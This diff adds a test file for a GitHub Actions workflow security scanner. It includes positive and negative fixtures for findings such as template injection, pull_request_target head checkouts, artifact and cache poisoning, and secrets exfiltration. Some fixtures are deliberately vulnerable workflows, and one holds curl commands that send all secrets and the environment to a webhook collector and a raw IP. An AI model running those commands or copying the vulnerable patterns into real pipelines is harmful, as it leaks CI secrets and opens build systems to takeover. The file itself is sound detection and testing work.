@@ -1,0 +1,406 @@
+import { describe, expect, it } from 'vitest';
+import { lowerOwnOrganization } from '../../../src/ecosystems/github-actions/action-ref-rules.js';
+import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
+import { refVersionMismatchFindings } from '../../../src/ecosystems/github-actions/ref-version-rules.js';
+import { isRoutineWorkflowChange } from '../../../src/ecosystems/github-actions/routine-change.js';
+import { makeSnapshot } from '../../support/snapshot-factory.js';
+
+/**
+ * One positive and one negative case per workflow finding id (docs/findings.md), on workflow shapes
+ * modeled on public incident write-ups and on ordinary projects' CI.
+ */
+
+const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';
+
+function found(content: string, path = '.github/workflows/x.yml'): [string, string, number | null][] {
+  return (extractWorkflow(content, path).findings ?? []).map((f) => [f.id, f.severity, f.line]);
+}
+
+function ids(content: string, path?: string): string[] {
+  return found(content, path).map(([id, severity]) => `${id}:${severity}`);
+}
+
+function only(content: string, id: string): [string, string, number | null][] {
+  return found(content).filter(([i]) => i === id);
+}
+
+const job = (steps: string, extra = '') => `jobs:\n  main:\n    runs-on: ubuntu-latest\n${extra}    steps:\n${steps}`;
+
+describe('gha-template-injection', () => {
+  it('reports outsider text expanded into run: or github-script, through ||, format() and toJSON()', () => {
+    const workflow = `on:
+  issues:
+    types: [opened]
+${job(`      - run: echo "\${{ github.event.issue.title || 'untitled' }}"
+      - run: echo '\${{ toJSON(github.event) }}' > event.json
+      - uses: actions/github-script@${SHA}
+        with:
+          script: |
+            const body = \`\${{ format('{0}', github.event.issue.body) }}\`
+`)}`;
+    expect(only(workflow, 'gha-template-injection')).toEqual([
+      ['gha-template-injection', 'critical', 8],
+      ['gha-template-injection', 'critical', 9],
+      ['gha-template-injection', 'critical', 13],
+    ]);
+  });
+
+  it('grades by trigger: high on pull_request, medium on push, low for workflow_dispatch inputs', () => {
+    expect(only(`on: pull_request\n${job('      - run: git log -1 --format=%s "${{ github.head_ref }}"\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 6]]);
+    expect(only(`on: push\n${job('      - run: echo "${{ github.event.head_commit.message }}"\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'medium', 6]]);
+    expect(only(`on:\n  workflow_dispatch:\n    inputs:\n      tag: {type: string}\n${job('      - run: git tag ${{ inputs.tag }}\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'low', 9]]);
+  });
+
+  it('does not report the env: indirection, numbers, SHAs, booleans or values outside scripts', () => {
+    const workflow = `on: pull_request_target
+permissions: {}
+${job(`      - run: echo "$TITLE" | grep -q '^feat'
+        env:
+          TITLE: \${{ github.event.pull_request.title }}
+      - run: echo "PR \${{ github.event.pull_request.number }} at \${{ github.event.pull_request.head.sha }}"
+      - run: echo "\${{ contains(github.event.pull_request.title, '[skip]') }}"
+      - uses: actions/labeler@${SHA}
+        with:
+          configuration-path: \${{ github.event.pull_request.title }}
+`)}`;
+    expect(only(workflow, 'gha-template-injection')).toEqual([]);
+  });
+});
+
+describe('gha-github-env', () => {
+  it('reports outsider text written into GITHUB_ENV through an env variable', () => {
+    const workflow = `on: pull_request_target
+permissions: {}
+${job(`      - run: echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"
+        env:
+          BRANCH: \${{ github.event.pull_request.head.ref }}
+`)}`;
+    expect(only(workflow, 'gha-github-env')).toEqual([['gha-github-env', 'critical', 7]]);
+  });
+
+  it('does not report trusted values written there', () => {
+    const workflow = `on: pull_request_target
+permissions: {}
+${job(`      - run: echo "SHA=$SHA" >> "$GITHUB_ENV"
+        env:
+          SHA: \${{ github.event.pull_request.head.sha }}
+`)}`;
+    expect(only(workflow, 'gha-github-env')).toEqual([]);
+  });
+});
+
+describe('gha-dangerous-trigger', () => {
+  it('reports pull_request_target even without a checkout, higher with secrets', () => {
+    const withSecrets = `on: pull_request_target
+${job(`      - uses: some-org/pr-bot@v2
+        with:
+          token: \${{ secrets.BOT_TOKEN }}
+`)}`;
+    expect(only(withSecrets, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'high', 1]]);
+    expect(only(`on: [issue_comment]\n${job('      - run: echo hi\n')}`, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'medium', 1]]);
+  });
+
+  it('is low for a label-gated or first-party-only workflow, absent for pull_request', () => {
+    expect(only(`on:\n  pull_request_target:\n    types: [labeled]\n${job(`      - uses: actions/labeler@${SHA}\n`)}`, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'low', 2]]);
+    expect(only(`on: pull_request\n${job('      - run: npm test\n')}`, 'gha-dangerous-trigger')).toEqual([]);
+  });
+});
+
+describe('gha-pr-target-checkout and gha-pr-target-secrets', () => {
+  const pwn = (trigger: string, ref: string) => `on: ${trigger}
+${job(`      - uses: actions/checkout@${SHA}
+        with:
+          ref: ${ref}
+      - run: npm ci && npm test
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+`)}`;
+  it('reports a privileged run that checks out the head, and the secrets next to it', () => {
+    expect(ids(pwn('workflow_run', '${{ github.event.workflow_run.head_sha }}'))).toEqual(expect.arrayContaining(['gha-pr-target-checkout:critical', 'gha-pr-target-secrets:high']));
+  });
+  it('does not report the base checkout or pull_request', () => {
+    expect(ids(pwn('pull_request_target', 'main'))).not.toContain('gha-pr-target-checkout:critical');
+    expect(ids(pwn('pull_request', '${{ github.event.pull_request.head.sha }}')).filter((i) => i.startsWith('gha-pr-target'))).toEqual([]);
+  });
+});
+
+describe('gha-artifact-poisoning', () => {
+  it('reports workflow_run artifacts written into GITHUB_ENV (critical) or unpacked into the workspace and built (high)', () => {
+    const env = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\npermissions: {}\n${job(`      - uses: actions/download-artifact@${SHA}
+        with:
+          name: pr
+          run-id: \${{ github.event.workflow_run.id }}
+          github-token: \${{ github.token }}
+      - run: echo "PR_NUMBER=$(cat pr/number)" >> $GITHUB_ENV
+`)}`;
+    expect(only(env, 'gha-artifact-poisoning')).toEqual([['gha-artifact-poisoning', 'critical', 10]]);
+    const exec = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\npermissions: {}\n${job(`      - uses: actions/checkout@${SHA}
+      - uses: dawidd6/action-download-artifact@${SHA}
+        with:
+          run_id: \${{ github.event.workflow_run.id }}
+      - run: npm ci && npm run deploy-preview
+`)}`;
+    expect(only(exec, 'gha-artifact-poisoning')).toEqual([['gha-artifact-poisoning', 'high', 11]]);
+  });
+  it('does not report downloads of the same run or outside privileged triggers', () => {
+    const sameRun = `on: pull_request_target\npermissions: {}\n${job(`      - uses: actions/download-artifact@${SHA}\n        with:\n          name: build\n      - run: ./deploy.sh\n`)}`;
+    expect(only(sameRun, 'gha-artifact-poisoning')).toEqual([]);
+    const push = `on: push\n${job(`      - uses: dawidd6/action-download-artifact@${SHA}\n      - run: ./x.sh\n`)}`;
+    expect(only(push, 'gha-artifact-poisoning')).toEqual([]);
+  });
+});
+
+describe('gha-cache-poisoning', () => {
+  it('reports a release job that restores a cache, and PR code cached in a privileged run', () => {
+    const release = `on:\n  push:\n    tags: ['v*']\n${job(`      - uses: actions/checkout@${SHA}
+      - uses: actions/setup-node@${SHA}
+        with:
+          node-version: 22
+          cache: npm
+      - run: npm ci && npm publish
+`)}`;
+    expect(only(release, 'gha-cache-poisoning')).toEqual([['gha-cache-poisoning', 'medium', 9]]);
+    const pr = `on: pull_request_target\n${job(`      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@${SHA}\n        with:\n          path: ~/.npm\n          key: npm\n      - run: npm ci\n`)}`;
+    expect(only(pr, 'gha-cache-poisoning')).toEqual([['gha-cache-poisoning', 'high', 9]]);
+  });
+  it('does not report caches in ordinary CI or a release without a cache', () => {
+    const ci = `on: [push, pull_request]\n${job(`      - uses: actions/setup-node@${SHA}\n        with:\n          cache: npm\n      - run: npm ci && npm test\n`)}`;
+    expect(only(ci, 'gha-cache-poisoning')).toEqual([]);
+    const release = `on: release\n${job(`      - uses: actions/setup-node@${SHA}\n        with:\n          node-version: 22\n      - run: npm publish\n`)}`;
+    expect(only(release, 'gha-cache-poisoning')).toEqual([]);
+  });
+});
+
+describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-secrets', () => {
+  it('reports secrets and environment dumps sent to collector hosts or public IPs', () => {
+    const exfil = `on: push\n${job(`      - run: |
+          curl -s -X POST -d "$ALL" https://webhook.site/0d5c6f1e-aaaa-bbbb-cccc-1234567890ab
+          env | base64 -w0 | curl -d @- http://203.0.113.7:8080/c
+        env:
+          ALL: \${{ toJSON(secrets) }}
+`)}`;
+    expect(ids(exfil)).toEqual(expect.arrayContaining(['gha-secrets-exfiltration:critical', 'gha-overprovisioned-secrets:high']));
+    expect(only(exfil, 'gha-secrets-exfiltration')).toHaveLength(2);
+    expect(only(`on: push\n${job('      - run: deploy --config "${{ fromJSON(secrets.DEPLOY).key }}"\n')}`, 'gha-unredacted-secrets')).toEqual([['gha-unredacted-secrets', 'medium', 6]]);
+  });
+  it('does not report an API call that carries one secret to its service, or a local health check', () => {
+    const normal = `on: push\n${job(`      - run: |
+          curl -fsS -H "Authorization: Bearer $TOKEN" https://api.codecov.io/upload
+          curl -fsS http://127.0.0.1:8080/health -H "X-Key: \${{ secrets.LOCAL_KEY }}"
+          curl -X POST "\${{ secrets.SLACK_WEBHOOK_URL }}" -d '{"text":"released"}'
+        env:
+          TOKEN: \${{ secrets.CODECOV_TOKEN }}
+`)}`;
+    expect(ids(normal).filter((i) => i.includes('secret'))).toEqual([]);
+  });
+});
+
+describe('gha-secrets-inherit', () => {
+  it('reports secrets: inherit to another owner, higher at a moving ref; lower for the own organization', () => {
+    const workflow = `on: push\njobs:\n  release:\n    uses: some-vendor/workflows/.github/workflows/release.yml@main\n    secrets: inherit\n  pinned:\n    uses: some-vendor/workflows/.github/workflows/scan.yml@${SHA}\n    secrets: inherit\n`;
+    expect(only(workflow, 'gha-secrets-inherit')).toEqual([
+      ['gha-secrets-inherit', 'high', 5],
+      ['gha-secrets-inherit', 'medium', 5],
+    ]);
+    const lowered = lowerOwnOrganization(extractWorkflow(workflow.replaceAll('some-vendor', 'acme'), '.github/workflows/x.yml').findings ?? [], 'Acme');
+    expect(lowered.filter((f) => f.id === 'gha-secrets-inherit').map((f) => f.severity)).toEqual(['low', 'low']);
+  });
+  it('does not report local reusable workflows or named secrets', () => {
+    const workflow = `on: push\njobs:\n  a:\n    uses: ./.github/workflows/build.yml\n    secrets: inherit\n  b:\n    uses: some-vendor/workflows/.github/workflows/x.yml@${SHA}\n    secrets:\n      token: \${{ secrets.X }}\n`;
+    expect(only(workflow, 'gha-secrets-inherit')).toEqual([]);
+  });
+});
+
+describe('gha-excessive-permissions', () => {
+  it('reports write-all, and write scopes no step needs', () => {
+    expect(only(`on: pull_request_target\npermissions: write-all\n${job('      - run: echo hi\n')}`, 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 2]]);
+    expect(only(`on: pull_request\npermissions:\n  contents: write\n${job('      - run: npm test\n')}`, 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'medium', 3]]);
+  });
+  it('does not report scopes the job plainly needs: trusted publishing, pushing an image, a release', () => {
+    const workflow = `on:\n  push:\n    tags: ['v*']\npermissions:\n  contents: read\njobs:
+  pypi:
+    runs-on: ubuntu-latest
+    permissions:
+      id-token: write
+    steps:
+      - uses: pypa/gh-action-pypi-publish@${SHA}
+  image:
+    runs-on: ubuntu-latest
+    permissions:
+      packages: write
+    steps:
+      - run: docker push ghcr.io/acme/app:\${{ github.ref_name }}
+  release:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: write
+    steps:
+      - run: gh release create "$GITHUB_REF_NAME" dist/*
+`;
+    expect(only(workflow, 'gha-excessive-permissions')).toEqual([]);
+  });
+});
+
+describe('gha-unpinned-action and gha-known-vulnerable-action', () => {
+  it('grades moving refs by owner and reports known compromised refs', () => {
+    const workflow = `on: push\n${job(`      - uses: actions/checkout@v4
+      - uses: some-vendor/setup-tool@main
+      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67
+      - uses: tj-actions/changed-files@v35
+`)}`;
+    expect(found(workflow).filter(([id]) => id.startsWith('gha-unpinned') || id.startsWith('gha-known'))).toEqual([
+      ['gha-unpinned-action', 'low', 6],
+      ['gha-unpinned-action', 'medium', 7],
+      ['gha-known-vulnerable-action', 'critical', 8],
+      ['gha-known-vulnerable-action', 'high', 9],
+      ['gha-unpinned-action', 'medium', 9],
+    ]);
+  });
+  it('does not report SHA pins, local actions, the SLSA generator by tag, or fixed releases', () => {
+    const workflow = `on: push\njobs:\n  provenance:\n    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@${SHA} # v46.0.5\n      - uses: ./.github/actions/setup\n`;
+    expect(found(workflow).filter(([id]) => id.startsWith('gha-unpinned') || id.startsWith('gha-known'))).toEqual([]);
+    const lowered = lowerOwnOrganization(extractWorkflow(`on: push\n${job('      - uses: acme/setup@v1\n')}`, '.github/workflows/x.yml').findings ?? [], 'acme');
+    expect(lowered.map((f) => [f.id, f.severity])).toEqual([['gha-unpinned-action', 'low']]);
+  });
+});
+
+describe('gha-self-hosted-runner', () => {
+  it('reports self-hosted runners on events outsiders cause', () => {
+    expect(only(`on: pull_request\njobs:\n  t:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n`, 'gha-self-hosted-runner')).toEqual([['gha-self-hosted-runner', 'medium', 4]]);
+    expect(only(`on: issue_comment\njobs:\n  t:\n    runs-on:\n      group: gpu\n    steps:\n      - run: make\n`, 'gha-self-hosted-runner')).toEqual([['gha-self-hosted-runner', 'high', 4]]);
+  });
+  it('does not report them on push or schedule', () => {
+    expect(only(`on:\n  push:\n    branches: [main]\njobs:\n  t:\n    runs-on: self-hosted\n    steps:\n      - run: make\n`, 'gha-self-hosted-runner')).toEqual([]);
+  });
+});
+
+describe('gha-insecure-commands', () => {
+  it('reports ACTIONS_ALLOW_UNSECURE_COMMANDS', () => {
+    expect(only(`on: pull_request\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n${job('      - run: make\n')}`, 'gha-insecure-commands')).toEqual([['gha-insecure-commands', 'high', 3]]);
+  });
+  it('does not report it set to false', () => {
+    expect(only(`on: pull_request\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: 'false'\n${job('      - run: make\n')}`, 'gha-insecure-commands')).toEqual([]);
+  });
+});
+
+describe('gha-bot-condition, gha-unsound-contains, gha-unsound-condition', () => {
+  it('reports a spoofable bot check in a privileged workflow, a string contains() and an always-true if:', () => {
+    const workflow = `on: pull_request_target
+permissions: {}
+jobs:
+  automerge:
+    runs-on: ubuntu-latest
+    if: github.actor == 'dependabot[bot]'
+    steps:
+      - run: gh pr merge --auto "$PR"
+        if: \${{ contains('refs/heads/main refs/heads/develop', github.base_ref) }}
+      - run: echo deploy
+        if: \${{ github.event.pull_request.merged }} && \${{ github.base_ref == 'main' }}
+`;
+    expect(found(workflow).filter(([id]) => ['gha-bot-condition', 'gha-unsound-contains', 'gha-unsound-condition'].includes(id))).toEqual([
+      ['gha-bot-condition', 'high', 6],
+      ['gha-unsound-contains', 'medium', 9],
+      ['gha-unsound-condition', 'medium', 11],
+    ]);
+  });
+  it("does not report the PR author's login, contains() over a list, or one whole expression", () => {
+    const workflow = `on: pull_request_target
+permissions: {}
+jobs:
+  automerge:
+    runs-on: ubuntu-latest
+    if: github.event.pull_request.user.login == 'dependabot[bot]'
+    steps:
+      - run: gh pr merge --auto "$PR"
+        if: contains(fromJSON('["main", "develop"]'), github.base_ref)
+      - run: echo ok
+        if: \${{ github.event.pull_request.merged && github.base_ref == 'main' }}
+`;
+    expect(found(workflow).filter(([id]) => ['gha-bot-condition', 'gha-unsound-contains', 'gha-unsound-condition'].includes(id))).toEqual([]);
+  });
+});
+
+describe('gha-container-credentials', () => {
+  it('reports a literal registry password', () => {
+    const workflow = `on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    container:\n      image: registry.acme.dev/build:1@sha256:${'a'.repeat(64)}\n      credentials:\n        username: ci\n        password: hunter2-registry\n    steps:\n      - run: make\n`;
+    expect(only(workflow, 'gha-container-credentials')).toEqual([['gha-container-credentials', 'high', 9]]);
+  });
+  it('does not report a password from secrets', () => {
+    const workflow = `on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    services:\n      db:\n        image: registry.acme.dev/pg:16@sha256:${'a'.repeat(64)}\n        credentials:\n          username: ci\n          password: \${{ secrets.REGISTRY_PASSWORD }}\n    steps:\n      - run: make\n`;
+    expect(only(workflow, 'gha-container-credentials')).toEqual([]);
+  });
+});
+
+describe('gha-artipacked', () => {
+  it('reports uploading the whole checkout with its persisted token', () => {
+    const workflow = `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: .\n`)}`;
+    expect(only(workflow, 'gha-artipacked')).toEqual([['gha-artipacked', 'high', 7]]);
+  });
+  it('does not report persist-credentials: false or a build directory', () => {
+    const off = `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: .\n`)}`;
+    const dist = `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: dist/\n`)}`;
+    expect([...only(off, 'gha-artipacked'), ...only(dist, 'gha-artipacked')]).toEqual([]);
+  });
+});
+
+describe('routine workflow edits', () => {
+  const base = `name: CI
+on: [push, pull_request]
+permissions:
+  contents: read
+jobs:
+  test:
+    runs-on: ubuntu-22.04
+    timeout-minutes: 10
+    strategy:
+      matrix:
+        node: [18, 20]
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-node@v4
+        with:
+          node-version: \${{ matrix.node }}
+      - run: npm ci && npm test
+`;
+  it('treats matrices, versions, timeouts, names, hosted images, ref moves and comments as routine', () => {
+    const head = base
+      .replace('node: [18, 20]', 'node: [20, 22, 24]')
+      .replace('timeout-minutes: 10', 'timeout-minutes: 20 # slower runners')
+      .replace('ubuntu-22.04', 'ubuntu-24.04')
+      .replace('actions/checkout@v4', 'actions/checkout@v5')
+      .replace('name: CI', 'name: Continuous integration');
+    expect(isRoutineWorkflowChange(base, head)).toBe(true);
+  });
+  it('does not treat new steps, scripts, triggers, permissions or another action as routine', () => {
+    expect(isRoutineWorkflowChange(base, base.replace('npm ci && npm test', 'npm ci && npm test && ./upload.sh'))).toBe(false);
+    expect(isRoutineWorkflowChange(base, base.replace('[push, pull_request]', '[push, pull_request_target]'))).toBe(false);
+    expect(isRoutineWorkflowChange(base, base.replace('contents: read', 'contents: write'))).toBe(false);
+    expect(isRoutineWorkflowChange(base, base.replace('actions/setup-node@v4', 'evil/setup-node@v4'))).toBe(false);
+    expect(isRoutineWorkflowChange(base, base.replace('    steps:\n', '    steps:\n      - run: echo hi\n'))).toBe(false);
+    expect(isRoutineWorkflowChange(base, 'jobs: [')).toBe(false);
+  });
+});
+
+describe('gha-ref-version-mismatch', () => {
+  const pinned = 'a'.repeat(40);
+  const workflow = `on: push\n${job(`      - uses: some-vendor/deploy@${pinned} # v2.3.1\n`)}`;
+  const snapshot = (resolved: string | null) =>
+    makeSnapshot({ contents: [{ path: '.github/workflows/x.yml', base: null, head: workflow }], actionTags: [{ path: '.github/workflows/x.yml', action: 'some-vendor/deploy', tag: 'v2.3.1', pinned, resolved }] });
+  it('reports a version comment whose tag resolves to another commit', () => {
+    expect(refVersionMismatchFindings(snapshot('b'.repeat(40))).map((f) => [f.id, f.severity, f.line])).toEqual([['gha-ref-version-mismatch', 'medium', 6]]);
+  });
+  it('does not report a matching tag, or one that could not be resolved', () => {
+    expect([...refVersionMismatchFindings(snapshot(pinned)), ...refVersionMismatchFindings(snapshot(null))]).toEqual([]);
+  });
+});
+
+describe('docs/findings.md', () => {
+  it('documents every id these rules produce, and this file tests each documented workflow id', async () => {
+    const { readFile } = await import('node:fs/promises');
+    const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
+    const documented = new Set([...doc.matchAll(/^### `(gha-[a-z0-9-]+)`/gm)].map((m) => m[1]));
+    const source = await readFile(new URL(import.meta.url), 'utf8');
+    const tested = new Set([...source.matchAll(/describe\('([^']+)'/g)].flatMap((m) => m[1]!.split(/,\s*| and /)).filter((id) => id.startsWith('gha-')));
+    expect([...documented].sort()).toEqual([...tested].sort());
+  });
+});
